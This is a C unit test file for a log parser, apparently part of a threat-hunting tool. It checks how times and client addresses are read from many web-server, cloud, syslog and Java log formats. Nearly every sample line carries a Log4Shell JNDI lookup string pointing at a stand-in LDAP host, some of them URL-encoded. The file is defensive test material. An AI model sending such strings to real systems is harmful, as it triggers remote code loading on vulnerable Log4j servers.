/* Lines as the programs write them: the format, the time and the client that are read from each,
 * and that a line cut anywhere is read within its bytes. */
#include "unit.h"

#include "base/timefmt.h"
#include "hunt/format.h"

#define P "${jndi:ldap://203.0.113.9:1389/a}"

static const struct {
    const char *name, *header, *date, *line;
    const char *time, *client, *format; /* NULL: not known */
} cases[] = {
    {"combined", NULL, NULL,
     "198.51.100.23 - - [10/Dec/2021:18:12:33 +0900] \"GET / HTTP/1.1\" 200 5 \"-\" \"" P "\"",
     "2021-12-10T09:12:33.000Z", "198.51.100.23", "combined"},
    {"combined user", NULL, NULL,
     "198.51.100.23 - frank [10/Oct/2000:13:55:36 -0700] \"GET /apache_pb.gif HTTP/1.0\" "
     "200 2326 \"http://www.example.com/start.html\" \"" P "\"",
     "2000-10-10T20:55:36.000Z", "198.51.100.23", "combined"},
    {"common", NULL, NULL,
     "198.51.100.23 - - [29/Feb/2020:23:59:60 +0000] \"GET /" P " HTTP/1.0\" 200 -",
     "2020-03-01T00:00:00.000Z", "198.51.100.23", "combined"},
    {"v6", NULL, NULL,
     "2001:db8::7 - - [10/Dec/2021:18:12:33 +0530] \"GET / HTTP/1.1\" 200 5 \"-\" \"" P "\"",
     "2021-12-10T12:42:33.000Z", "2001:db8::7", "combined"},
    {"vhost", NULL, NULL,
     "www.example.com 198.51.100.23 - - [10/Dec/2021:18:12:33 +0900] \"GET / HTTP/1.1\" "
     "200 5 \"-\" \"" P "\"",
     "2021-12-10T09:12:33.000Z", "198.51.100.23", "combined"},
    {"vhost:port", NULL, NULL,
     "www.example.com:443 198.51.100.23 - - [10/Dec/2021:18:12:33 +0900] \"GET / "
     "HTTP/1.1\" 200 5 \"-\" \"" P "\"",
     "2021-12-10T09:12:33.000Z", "198.51.100.23", "combined"},
    {"xff end", NULL, NULL,
     "10.0.0.5 - - [10/Dec/2021:18:12:33 +0900] \"GET / HTTP/1.1\" 200 5 \"-\" \"" P "\" \"198"
     ".51."
     "100."
     "23\"",
     "2021-12-10T09:12:33.000Z", "198.51.100.23", "combined"},
    {"xff list", NULL, NULL,
     "10.0.0.5 - - [10/Dec/2021:18:12:33 +0900] \"GET / HTTP/1.1\" 200 5 \"-\" \"" P "\" \"198"
     ".51."
     "100."
     "23, "
     "10.9."
     "9.9\"",
     "2021-12-10T09:12:33.000Z", "198.51.100.23", "combined"},
    {"xff unquoted", NULL, NULL,
     "10.0.0.5 - - [10/Dec/2021:18:12:33 +0900] \"GET / HTTP/1.1\" 200 5 \"-\" \"" P "\" 198."
     "51."
     "100."
     "23",
     "2021-12-10T09:12:33.000Z", "198.51.100.23", "combined"},
    {"xff -", NULL, NULL,
     "10.0.0.5 - - [10/Dec/2021:18:12:33 +0900] \"GET / HTTP/1.1\" 200 5 \"-\" \"" P "\" \"-"
     "\"",
     "2021-12-10T09:12:33.000Z", "10.0.0.5", "combined"},
    {"xff attacker", NULL, NULL,
     "198.51.100.23 - - [10/Dec/2021:18:12:33 +0900] \"GET / HTTP/1.1\" 200 5 \"-\" \"x\" "
     "\"" P "\"",
     "2021-12-10T09:12:33.000Z", "198.51.100.23", "combined"},
    {"xff first", NULL, NULL,
     "198.51.100.23, 10.9.9.9 - - [10/Dec/2021:18:12:33 +0900] \"GET / HTTP/1.1\" 200 5 "
     "\"-\" \"" P "\"",
     "2021-12-10T09:12:33.000Z", "198.51.100.23", "combined"},
    {"host name", NULL, NULL,
     "client.example.net - - [10/Dec/2021:18:12:33 +0900] \"GET / HTTP/1.1\" 200 5 \"-\" "
     "\"" P "\"",
     "2021-12-10T09:12:33.000Z", "client.example.net", "combined"},
    {"user with space", NULL, NULL,
     "198.51.100.23 - John Doe [10/Dec/2021:18:12:33 +0900] \"GET / HTTP/1.1\" 200 5 \"-\" "
     "\"" P "\"",
     "2021-12-10T09:12:33.000Z", "198.51.100.23", "combined"},
    {"tomcat", NULL, NULL,
     "198.51.100.23 - - [10/Dec/2021:18:12:33 +0900] \"GET /" P " HTTP/1.1\" 400 762",
     "2021-12-10T09:12:33.000Z", "198.51.100.23", "combined"},
    {"nginx error", NULL, NULL,
     "2021/12/10 18:12:33 [error] 31#31: *7 open() \"/usr/share/nginx/html/x\" failed (2: "
     "No such file or directory), client: 198.51.100.23, server: localhost, request: \"GET "
     "/" P " HTTP/1.1\", host: \"h\"",
     "2021-12-10T09:12:33.000Z", "198.51.100.23", "error"},
    {"nginx error referrer", NULL, NULL,
     "2021/12/10 18:12:33 [error] 31#31: *7 x, client: 198.51.100.23, server: localhost, "
     "request: \"GET / HTTP/1.1\", host: \"h\", referrer: \"" P "\"",
     "2021-12-10T09:12:33.000Z", "198.51.100.23", "error"},
    {"apache 2.4", NULL, NULL,
     "[Fri Dec 10 18:12:33.123456 2021] [core:error] [pid 7:tid 140] [client "
     "198.51.100.23:50412] AH00126: Invalid URI in request GET /" P,
     "2021-12-10T09:12:33.123Z", "198.51.100.23", "error"},
    {"apache 2.4 v6", NULL, NULL,
     "[Fri Dec 10 18:12:33.123456 2021] [core:error] [pid 7] [client 2001:db8::7:50412] "
     "AH00126: " P,
     "2021-12-10T09:12:33.123Z", "2001:db8::7", "error"},
    {"apache 2.4 v6[]", NULL, NULL,
     "[Fri Dec 10 18:12:33.123456 2021] [core:error] [pid 7] [client [2001:db8::7]:50412] "
     "AH00126: " P,
     "2021-12-10T09:12:33.123Z", "2001:db8::7", "error"},
    {"apache 2.4 remote", NULL, NULL,
     "[Fri Dec 10 18:12:33.123456 2021] [core:error] [pid 7:tid 140] [remote "
     "198.51.100.23:50412] AH00126: " P,
     "2021-12-10T09:12:33.123Z", "198.51.100.23", "error"},
    {"apache 2.2", NULL, NULL,
     "[Fri Dec 10 18:12:33 2021] [error] [client 198.51.100.23] File does not exist: "
     "/var/www/" P,
     "2021-12-10T09:12:33.000Z", "198.51.100.23", "error"},
    {"ecs nested", NULL, NULL,
     "{\"@timestamp\": \"2021-12-10T09:12:33.5Z\", \"source\": {\"ip\": \"198.51.100.23\", "
     "\"port\": 5}, \"http\": {\"request\": {\"headers\": {\"x\": \"" P "\"}}}}",
     "2021-12-10T09:12:33.500Z", "198.51.100.23", "json"},
    {"ecs dotted", NULL, NULL,
     "{\"@timestamp\": \"2021-12-10T09:12:33.5Z\", \"client.ip\": \"198.51.100.23\", "
     "\"message\": \"" P "\"}",
     "2021-12-10T09:12:33.500Z", "198.51.100.23", "json"},
    {"json spaces", NULL, NULL,
     "{ \"time\" : \"2021-12-10T18:12:33+09:00\" , \"remote_addr\" : \"198.51.100.23\" , "
     "\"ua\" : \"" P "\" }",
     "2021-12-10T09:12:33.000Z", "198.51.100.23", "json"},
    {"json time_local", NULL, NULL,
     "{\"time_local\": \"10/Dec/2021:18:12:33 +0900\", \"remote_addr\": \"198.51.100.23\", "
     "\"request\": \"" P "\"}",
     "2021-12-10T09:12:33.000Z", "198.51.100.23", "json"},
    {"json epoch ms", NULL, NULL,
     "{\"timestamp\": 1639127553123, \"clientIp\": \"198.51.100.23\", \"request\": \"" P "\"}",
     "2021-12-10T09:12:33.123Z", "198.51.100.23", "json"},
    {"json log4j2 instant", NULL, NULL,
     "{\"instant\": {\"epochSecond\": 1639127553, \"nanoOfSecond\": 500000000}, \"level\": "
     "\"INFO\", \"message\": \"" P "\", \"contextMap\": {\"ip\": \"198.51.100.23\"}}",
     "2021-12-10T09:12:33.000Z", "198.51.100.23", "json"},
    {"json logstash", NULL, NULL,
     "{\"@timestamp\": \"2021-12-10T18:12:33.123+09:00\", \"@version\": \"1\", "
     "\"message\": \"" P "\", \"logger_name\": \"x\", \"level\": \"INFO\"}",
     "2021-12-10T09:12:33.123Z", NULL, "json"},
    {"json gcp", NULL, NULL,
     "{\"timestamp\": \"2021-12-10T09:12:33.1Z\", \"httpRequest\": {\"remoteIp\": "
     "\"198.51.100.23\", \"userAgent\": \"" P "\"}}",
     "2021-12-10T09:12:33.100Z", "198.51.100.23", "json"},
    {"json cloudtrail", NULL, NULL,
     "{\"eventTime\": \"2021-12-10T09:12:33Z\", \"sourceIPAddress\": \"198.51.100.23\", "
     "\"userAgent\": \"" P "\"}",
     "2021-12-10T09:12:33.000Z", "198.51.100.23", "json"},
    {"json aws waf", NULL, NULL,
     "{\"timestamp\": 1639127553123, \"httpRequest\": {\"clientIp\": \"198.51.100.23\", "
     "\"headers\": [{\"name\": \"x\", \"value\": \"" P "\"}]}}",
     "2021-12-10T09:12:33.123Z", "198.51.100.23", "json"},
    {"json docker", NULL, NULL,
     "{\"log\": \"198.51.100.23 - - [10/Dec/2021:18:12:33 +0900] \\\"GET / HTTP/1.1\\\" "
     "200 5 \\\"-\\\" \\\"" P "\\\"\\n\", \"stream\": \"stdout\", \"time\": "
     "\"2021-12-10T09:12:33.5Z\"}",
     "2021-12-10T09:12:33.500Z", "198.51.100.23", "json"},
    {"json k8s xff", NULL, NULL,
     "{\"time\": \"2021-12-10T09:12:33.5Z\", \"x_forwarded_for\": \"198.51.100.23, "
     "10.0.0.1\", \"remote_addr\": \"10.0.0.1\", \"ua\": \"" P "\"}",
     "2021-12-10T09:12:33.500Z", "198.51.100.23", "json"},
    {"syslog 3164", NULL, NULL, "<34>Dec 10 18:12:33 host app[7]: " P, "2021-12-10T09:12:33.000Z",
     NULL, "syslog"},
    {"syslog 3164 day", NULL, NULL, "<34>Dec  9 18:12:33 host app: " P, "2021-12-09T09:12:33.000Z",
     NULL, "syslog"},
    {"syslog file", NULL, NULL, "Dec 10 18:12:33 host app[7]: x " P, "2021-12-10T09:12:33.000Z",
     NULL, "syslog"},
    {"syslog iso", NULL, NULL, "2021-12-10T18:12:33.123456+09:00 host app[7]: x " P,
     "2021-12-10T09:12:33.123Z", NULL, "syslog"},
    {"syslog 5424", NULL, NULL,
     "<165>1 2021-12-10T09:12:33.003Z mymachine.example.com evntslog - ID47 "
     "[exampleSDID@32473 iut=\"3\" eventSource=\"App\\]lication\"] \357\273\277" P,
     "2021-12-10T09:12:33.003Z", NULL, "syslog"},
    {"syslog 5424 sd", NULL, NULL,
     "<165>1 2021-12-10T18:12:33.003+09:00 m e - ID47 [a@1 ua=\"" P "\" src=\"198.51.100."
     "23\"]",
     "2021-12-10T09:12:33.003Z", NULL, "syslog"},
    {"syslog 5424 nil", NULL, NULL, "<165>1 - - - - - - " P, NULL, NULL, "syslog"},
    {"syslog 5424 combined", NULL, NULL,
     "<165>1 2021-12-10T09:12:34.003Z h nginx 7 - - 198.51.100.23 - - "
     "[10/Dec/2021:18:12:33 +0900] \"GET / HTTP/1.1\" 200 5 \"-\" \"" P "\"",
     "2021-12-10T09:12:33.000Z", "198.51.100.23", "syslog"},
    {"syslog 5424 json", NULL, NULL,
     "<165>1 2021-12-10T09:12:34.003Z h nginx 7 - - {\"remote_addr\": \"198.51.100.23\", "
     "\"ua\": \"" P "\"}",
     "2021-12-10T09:12:34.003Z", "198.51.100.23", "syslog"},
    {"syslog cef", NULL, NULL,
     "Dec 10 18:12:33 host CEF:0|V|P|1|100|x|5|src=198.51.100.23 dst=10.0.0.1 request=" P,
     "2021-12-10T09:12:33.000Z", "198.51.100.23", "syslog"},
    {"iis",
     "date time s-ip cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip "
     "cs(User-Agent) cs(Referer) sc-status sc-substatus sc-win32-status time-taken",
     "2021-12-10",
     "2021-12-10 09:12:33 10.0.0.1 GET / q=" P " 80 - 198.51.100.23 Mozilla/5.0 - 200 0 0 5",
     "2021-12-10T09:12:33.000Z", "198.51.100.23", "w3c"},
    {"iis changed", "date time c-ip s-ip cs-uri-query x-forwarded-for", NULL,
     "2021-12-10 09:12:33 10.9.9.9 10.0.0.1 q=" P " 198.51.100.23", "2021-12-10T09:12:33.000Z",
     "198.51.100.23", "w3c"},
    {"iis no date column", "time c-ip cs-method cs-uri-stem", "2021-12-10",
     "09:12:33 198.51.100.23 GET /" P, "2021-12-10T09:12:33.000Z", "198.51.100.23", "w3c"},
    {"alb", NULL, NULL,
     "h2 2021-12-10T09:12:33.186641Z app/my-loadbalancer/50dc6c495c0c9188 "
     "198.51.100.23:2817 10.0.0.1:80 0.086 0.048 0.037 200 200 0 57 \"GET "
     "https://www.example.com:443/?x=" P
     " HTTP/2.0\" \"curl/7.46.0\" ECDHE-RSA-AES128-GCM-SHA256 TLSv1.2 arn:aws:x "
     "\"Root=1-58337281-1d84f3d73c47ec4e58577259\" \"www.example.com\" \"arn:aws:acm:x\" 1 "
     "2021-12-10T09:12:33.184000Z \"waf,forward\" \"-\" \"-\" \"10.0.0.66:9000\" \"200\" "
     "\"-\" \"-\"",
     "2021-12-10T09:12:33.186Z", "198.51.100.23", "alb"},
    {"alb quoted", NULL, NULL,
     "https 2021-12-10T09:12:33.186641Z app/my/5 198.51.100.23:2817 - 0.086 -1 -1 400 - 0 "
     "57 \"GET https://h:443/\\\"q HTTP/1.1\" \"a \\\"b\\\" " P "\" - - -",
     "2021-12-10T09:12:33.186Z", "198.51.100.23", "alb"},
    {"alb v6", NULL, NULL,
     "https 2021-12-10T09:12:33.186641Z app/my/5 2001:db8::7:2817 - 0.086 -1 -1 400 - 0 57 "
     "\"GET https://h:443/ HTTP/1.1\" \"" P "\" - - -",
     "2021-12-10T09:12:33.186Z", "2001:db8::7", "alb"},
    {"alb [v6]", NULL, NULL,
     "https 2021-12-10T09:12:33.186641Z app/my/5 [2001:db8::7]:2817 [2001:db8::9]:80 0.086 "
     "-1 -1 400 - 0 57 \"GET https://h:443/ HTTP/1.1\" \"" P "\" - - -",
     "2021-12-10T09:12:33.186Z", "2001:db8::7", "alb"},
    {"elb classic", NULL, NULL,
     "2021-12-10T09:12:33.945958Z my-loadbalancer 198.51.100.23:2817 10.0.0.1:80 0.000073 "
     "0.001048 0.000057 200 200 0 29 \"GET http://www.example.com:80/ HTTP/1.1\" \"" P "\" - "
     "-",
     "2021-12-10T09:12:33.945Z", "198.51.100.23", "alb"},
    {"cloudfront",
     "date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status "
     "cs(Referer) cs(User-Agent) cs-uri-query cs(Cookie) x-edge-result-type "
     "x-edge-request-id x-host-header cs-protocol cs-bytes time-taken x-forwarded-for",
     NULL,
     "2021-12-10\t09:12:33\tLAX1\t2390\t198.51.100.23\tGET\td.cloudfront.net\t/"
     "view\t200\t-\t$%257Bjndi:ldap://203.0.113.9:1389/"
     "a%257D\t-\t-\tHit\tid\twww\thttp\t23\t0.1\t-",
     "2021-12-10T09:12:33.000Z", "198.51.100.23", "w3c"},
    {"cloudfront xff",
     "date time x-edge-location sc-bytes c-ip cs-method cs(Host) cs-uri-stem sc-status "
     "cs(Referer) cs(User-Agent) cs-uri-query cs(Cookie) x-edge-result-type "
     "x-edge-request-id x-host-header cs-protocol cs-bytes time-taken x-forwarded-for",
     NULL,
     "2021-12-10\t09:12:33\tLAX1\t2390\t10.1.1.1\tGET\td.cloudfront.net\t/"
     "view\t200\t-\t%2524%257Bjndi:ldap://203.0.113.9:1389/"
     "a%257D\t-\t-\tHit\tid\twww\thttp\t23\t0.1\t198.51.100.23",
     "2021-12-10T09:12:33.000Z", "198.51.100.23", "w3c"},
    {"haproxy", NULL, NULL,
     "Dec 10 18:12:34 localhost haproxy[14389]: 198.51.100.23:33317 "
     "[10/Dec/2021:18:12:33.655] http-in static/srv1 10/0/30/69/109 200 2750 - - ---- "
     "1/1/1/1/0 0/0 {1wt.eu|" P "} {} \"GET /index.html HTTP/1.1\"",
     "2021-12-10T09:12:33.655Z", "198.51.100.23", "haproxy"},
    {"haproxy raw", NULL, NULL,
     "198.51.100.23:33317 [10/Dec/2021:18:12:33.655] http-in static/srv1 10/0/30/69/109 "
     "200 2750 - - ---- 1/1/1/1/0 0/0 \"GET /" P " HTTP/1.1\"",
     "2021-12-10T09:12:33.655Z", "198.51.100.23", "haproxy"},
    {"haproxy v6", NULL, NULL,
     "Dec 10 18:12:34 localhost haproxy[14389]: 2001:db8::7:33317 "
     "[10/Dec/2021:18:12:33.655] http-in static/srv1 10/0/30/69/109 200 2750 - - ---- "
     "1/1/1/1/0 0/0 \"GET /" P " HTTP/1.1\"",
     "2021-12-10T09:12:33.655Z", "2001:db8::7", "haproxy"},
    {"haproxy 5424", NULL, NULL,
     "<134>1 2021-12-10T18:12:34+09:00 lb haproxy 14389 - - 198.51.100.23:33317 "
     "[10/Dec/2021:18:12:33.655] http-in static/srv1 10/0/30/69/109 200 2750 - - ---- "
     "1/1/1/1/0 0/0 {" P "} \"GET / HTTP/1.1\"",
     "2021-12-10T09:12:33.655Z", "198.51.100.23", "syslog"},
    {"log4j default", NULL, NULL, "18:12:33.123 [main] ERROR org.example.App - " P, NULL, NULL,
     "java"},
    {"log4j2 %d", NULL, NULL, "2021-12-10 18:12:33,123 [main] ERROR org.example.App - " P,
     "2021-12-10T09:12:33.123Z", NULL, "java"},
    {"log4j iso8601 T", NULL, NULL,
     "2021-12-10T18:12:33,123 INFO [http-nio-8080-exec-1] o.e.App: " P, "2021-12-10T09:12:33.123Z",
     NULL, "java"},
    {"log4j absolute", NULL, NULL, "18:12:33,123 INFO  [App] " P, NULL, NULL, "java"},
    {"log4j DATE", NULL, NULL, "10 Dec 2021 18:12:33,123 INFO  [main] App - " P,
     "2021-12-10T09:12:33.123Z", NULL, "java"},
    {"log4j compact", NULL, NULL, "20211210181233123 INFO main App " P, "2021-12-10T09:12:33.123Z",
     NULL, "java"},
    {"log4j iso basic", NULL, NULL, "20211210T181233,123 INFO main App " P,
     "2021-12-10T09:12:33.123Z", NULL, "java"},
    {"log4j unix ms", NULL, NULL, "1639127553123 INFO main App " P, "2021-12-10T09:12:33.123Z",
     NULL, "java"},
    {"log4j level first", NULL, NULL, "INFO  2021-12-10 18:12:33,123 [main] App - " P,
     "2021-12-10T09:12:33.123Z", NULL, "java"},
    {"log4j level brackets", NULL, NULL, "[INFO ] 2021-12-10 18:12:33.123 [main] App - " P,
     "2021-12-10T09:12:33.123Z", NULL, "java"},
    {"log4j [date] [level]", NULL, NULL, "[2021-12-10 18:12:33,123] [ERROR] [App] " P,
     "2021-12-10T09:12:33.123Z", NULL, "java"},
    {"log4j us", NULL, NULL, "12/10/2021 18:12:33.123 INFO App " P, NULL, NULL, NULL},
    {"log4j slash", NULL, NULL, "2021/12/10 18:12:33.123 INFO App " P, "2021-12-10T09:12:33.123Z",
     NULL, "java"},
    {"log4j zone", NULL, NULL, "2021-12-10 18:12:33.123+0900 INFO App " P,
     "2021-12-10T09:12:33.123Z", NULL, "java"},
    {"log4j zone colon", NULL, NULL, "2021-12-10T09:12:33.123Z INFO App " P,
     "2021-12-10T09:12:33.123Z", NULL, "java"},
    {"log4j zone name", NULL, NULL, "2021-12-10 18:12:33.123 JST INFO App " P,
     "2021-12-10T09:12:33.123Z", NULL, "java"},
    {"logback default", NULL, NULL, "18:12:33.123 [main] DEBUG c.e.App -- " P, NULL, NULL, "java"},
    {"spring boot", NULL, NULL,
     "2021-12-10 18:12:33.123  INFO 7 --- [nio-8080-exec-1] c.e.App                        "
     "          : " P,
     "2021-12-10T09:12:33.123Z", NULL, "java"},
    {"spring boot 3", NULL, NULL,
     "2021-12-10T18:12:33.123+09:00  INFO 7 --- [nio-8080-exec-1] c.e.App : " P,
     "2021-12-10T09:12:33.123Z", NULL, "java"},
    {"logback ip", NULL, NULL, "2021-12-10 18:12:33.123 INFO [c.e.App] [clientIp=198.51.100.23] " P,
     "2021-12-10T09:12:33.123Z", "198.51.100.23", "java"},
    {"tomcat catalina", NULL, NULL,
     "10-Dec-2021 18:12:33.123 INFO [http-nio-8080-exec-1] org.apache.coyote.X " P,
     "2021-12-10T09:12:33.123Z", NULL, "java"},
    {"ecs java", NULL, NULL,
     "{\"@timestamp\": \"2021-12-10T09:12:33.123Z\", \"log.level\": \"INFO\", \"message\": "
     "\"" P "\", \"client\": {\"address\": \"198.51.100.23\"}}",
     "2021-12-10T09:12:33.123Z", "198.51.100.23", "json"},
};

static struct format_context context_of(size_t i)
{
    return (struct format_context){1639200000000, slice_str(cases[i].header),
                                   slice_str(cases[i].date)};
}

static void lines_are_read(void **state)
{
    (void)state;
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        struct format_context c = context_of(i);
        struct line_facts f;
        size_t hint = 0, again = 0;
        char time[TIME_RFC3339_SIZE] = "";
        format_parse(slice_str(cases[i].line), &c, &hint, &f);
        if (f.has_time)
            time_format_utc(f.time_ms, time);
        const char *want_time = cases[i].time ? cases[i].time : "";
        const char *want_client = cases[i].client ? cases[i].client : "";
        if (strcmp(time, want_time) != 0 || !slice_eq_str(f.client, want_client) ||
            strcmp(f.format ? f.format : "", cases[i].format ? cases[i].format : "") != 0)
            fail_msg("%s: %s, %s, client %.*s", cases[i].name, f.format, time, (int)f.client.n,
                     (const char *)f.client.p);
        again = hint; /* the format that the line before had is asked first */
        format_parse(slice_str(cases[i].line), &c, &again, &f);
        assert_int_equal(again, hint);
    }
}

static bool inside(struct slice part, const uint8_t *p, size_t n)
{
    return part.n == 0 || (part.p >= p && part.p + part.n <= p + n);
}

static void cut_at_every_byte(void **state)
{
    (void)state;
    static const char *const formats[] = {"combined", "json", "alb",   "w3c",
                                          "haproxy",  "java", "error", "syslog"};
    for (size_t i = 0; i < ARRAY_LEN(cases); i++) {
        struct format_context c = context_of(i);
        for (size_t cut = 0; cut <= strlen(cases[i].line); cut++) {
            struct line_facts f;
            uint8_t *exact = malloc(cut ? cut : 1);
            size_t hint = 0;
            assert_non_null(exact);
            memcpy(exact, cases[i].line, cut);
            for (size_t k = 0; k < ARRAY_LEN(formats); k++) {
                if (!format_parse_as(formats[k], slice_of(exact, cut), &c, &f))
                    continue;
                assert_true(inside(f.client, exact, cut));
                for (size_t n = 0; n < f.field_count; n++)
                    assert_true(inside(f.fields[n].value, exact, cut));
            }
            format_parse(slice_of(exact, cut), &c, &hint, &f);
            free(exact);
        }
    }
}

static void headers_are_found(void **state)
{
    (void)state;
    struct slice date;
    assert_slice_equal(format_header(SLICE_LIT("#Version: 1.0\r\n#Date: 2021-12-10 00:00:00\r\n"
                                               "#Fields: time c-ip\r\n#Fields: other\n"),
                                     &date),
                       "time c-ip");
    assert_slice_equal(date, "2021-12-10");
    assert_int_equal(format_header(SLICE_LIT("no header\n"), &date).n, 0);
    struct slice block = SLICE_LIT("#Fields: a\nx #Fields: b\n#Date: c\n##Fields: d\n#Fields: e");
    assert_int_equal(format_next_header(block, 0), 24);
    assert_int_equal(format_next_header(block, 25), block.n); /* its end is not there yet */
}

int main(void)
{
    (void)setenv("TZ", "Asia/Tokyo", 1);
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(lines_are_read),
        cmocka_unit_test(cut_at_every_byte),
        cmocka_unit_test(headers_are_found),
    };
    return cmocka_run_group_tests(tests, NULL, NULL);
}
